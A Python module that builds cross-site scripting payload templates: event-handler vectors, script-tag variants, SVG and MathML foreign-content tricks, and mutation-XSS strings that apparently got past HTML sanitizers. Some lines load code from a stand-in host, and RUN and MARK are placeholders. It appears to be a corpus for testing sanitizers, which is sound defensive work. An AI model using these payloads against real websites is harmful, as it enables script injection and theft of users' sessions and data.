"""Tags: event handlers of every kind, foreign content, and what sanitizers were fooled by."""

# Events that come by themselves or with little help, each on an element that gets them.
BY_ITSELF = {
    "onload": "svg",
    "onerror": "img src=x",
    "onfocus": "input autofocus",
    "onfocusin": "a tabindex=0 autofocus",
    "ontoggle": "details open",
    "onscroll": "body",
    "onbeforetoggle": "button popovertarget=p",
    "onpageshow": "body",
    "onhashchange": "body",
    "onresize": "body",
    "onstart": "marquee",
    "onfinish": "marquee loop=1 width=0",
    "onanimationstart": "p class=spin",
    "onanimationend": "p class=spin",
    "onanimationiteration": "p class=spin",
    "ontransitionend": "p tabindex=0",
    "ontransitionrun": "p tabindex=0",
    "onloadstart": "video src=x",
    "onloadeddata": "audio src=x",
    "onloadedmetadata": "video src=x",
    "oncanplay": "audio src=x",
    "onplay": "audio autoplay",
    "ondurationchange": "audio src=x",
    "ontimeupdate": "audio controls autoplay",
    "onprogress": "video src=x",
    "onsuspend": "video src=x",
    "onstalled": "audio src=x",
    "onended": "audio autoplay",
    "onbegin": "animate attributeName=x dur=1s",
    "onend": "animate attributeName=x dur=1s",
    "onrepeat": "animate attributeName=x dur=1s",
    "onmessage": "body",
    "onpopstate": "body",
    "onunhandledrejection": "body",
    "oncontentvisibilityautostatechange": "p class=auto",
    "onslotchange": "slot",
    "onsecuritypolicyviolation": "body",
    "onreadystatechange": "xml",
}
BY_HAND = """
    onclick ondblclick onauxclick oncontextmenu onmousedown onmouseup onmouseover onmouseout
    onmousemove onmouseenter onmouseleave onwheel onpointerdown onpointerup onpointermove
    onpointerover onpointerout onpointerenter onpointerleave onpointerrawupdate onpointercancel
    ongotpointercapture onlostpointercapture ontouchstart ontouchmove ontouchend onkeydown onkeyup
    onkeypress oninput onbeforeinput onchange oninvalid onsubmit onreset onselect onselectstart
    onsearch oncopy oncut onpaste onbeforecopy onbeforecut onbeforepaste ondrag ondragstart
    ondragend ondragenter ondragleave ondragover ondrop onblur onfocusout onscrollend
    onscrollsnapchange onbeforematch oncancel onclose oncommand oncuechange onfullscreenchange
    onbeforexrselect onvolumechange onratechange onseeked onseeking onwaiting onpause onformdata
    onwebkitanimationend
""".split()

FAMILIES = {
    "events that come by themselves": [
        f"<{element} {event}=RUN>" for event, element in BY_ITSELF.items()
    ],
    "events of hands and keys": [
        f"<x-a tabindex=1 {event}=RUN>MARK" if place % 2 else f'"><a href=# {event}="RUN">MARK</a>'
        for place, event in enumerate(BY_HAND)
    ],
    "scripts": [
        "<script>RUN</script>",
        "<ScRiPt>RUN</sCrIpT>",
        "<script/x>RUN</script>",
        "<script src=//zx.invalid/MARK></script>",
        "<script src=data:,RUN></script>",
        "<script type=module>RUN</script>",
        "<script\n>RUN</script\t>",
        "<<script>RUN//<</script>",
        "<scr<script>ipt>RUN</scr</script>ipt>",
        "<script>RUN",
        "<script x=MARK>RUN</script/>",
        "<script nomodule>RUN</script>",
        "<script type=text/javascript>RUN</script>",
        '<script type=importmap>{"imports":{"htmx.org":"//zx.invalid/MARK"}}</script>',
        '<script type=speculationrules>{"prefetch":[{"urls":["//zx.invalid/MARK"]}]}</script>',
        "%3Cscript%3ERUN%3C/script%3E",
        "<script language=vbscript>MARK</script>",
    ],
    "foreign content": [
        "<svg><script>RUN</script></svg>",
        "<svg><script href=//zx.invalid/MARK />",
        "<svg><script xlink:href=data:,RUN />",
        "<svg><a xlink:href=javascript:RUN><text>MARK",
        "<svg><animate xlink:href=#MARK attributeName=href values=javascript:RUN />",
        "<svg><set attributeName=onmouseover to=RUN>",
        "<svg><use href=data:image/svg+xml,MARK#x>",
        "<svg><foreignObject><iframe onload=RUN></iframe></foreignObject></svg>",
        "<svg><image href=x onerror=RUN>",
        "<svg><style>*{background:url(//zx.invalid/MARK)}",
        "<svg><title><script>RUN</script></title></svg>",
        "<svg onload=RUN//",
        "<svg/onload=RUN>",
        "<svg><desc><img src=x onerror=RUN></desc></svg>",
        "<math href=javascript:RUN>MARK</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:RUN>MARK",
        '<math><mi xlink:href="javascript:RUN">MARK</mi></math>',
        "<svg><discard onbegin=RUN>",
        "<text x=1 y=2 onclick=RUN>MARK</text>",
        "</text><script>RUN</script><text>",
        "</title><path onmouseover=RUN d=M0,0h99v99z><title>",
    ],
    "texts that change when they are read again": [
        '<math><mtext><table><mglyph><style><!--</style><img title="--><img src onerror=RUN>">',
        '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
        "<math><style><img src=x onerror=RUN></style></math>",
        '<noscript><p title="</noscript><img src=x onerror=RUN>">',
        '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
        '<img onerror=RUN src>">',
        '<svg><p><style><g title="</style><img src onerror=RUN>">',
        "<math><annotation-xml encoding=text/html><style><img src onerror=RUN></style>",
        '<select><template><style><!--</style><a rel="--></style></template></select>'
        '<img src onerror=RUN>">',
        "<table><td><svg><desc><td><img src onerror=RUN>",
        "<p><svg><![CDATA[><img src onerror=RUN>",
        '<xmp><p title="</xmp><img src onerror=RUN>">',
        "<svg><xss><desc><noscript>"
        '&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>'
        '&lt;img src onerror=RUN>">',
        '<img alt="x><svg onload=RUN>">',
        '<a title="<div>" href=https://e.invalid><p></p><img src onerror=RUN></a>',
        '<div><div title="</div><img src onerror=RUN>"></div>',
        '<h1 title="><svg onload=RUN>">x',
        '<noembed><img title="</noembed><img src onerror=RUN>">',
        '<noframes><p id="</noframes><img src onerror=RUN>">',
        "<svg><!--><img src onerror=RUN>-->",
        "<!--><img src onerror=RUN>-->",
        "<!--!><img src onerror=RUN>",
        "<?xml ><img src onerror=RUN>",
        "<![if gte IE 4]><script>RUN</script><![endif]>",
        "</ <img src onerror=RUN>>",
        '<b><i title="</b><img src onerror=RUN>"></i>',
        "<p title='<style>'>x<style></p><img src onerror=RUN>",
    ],
}
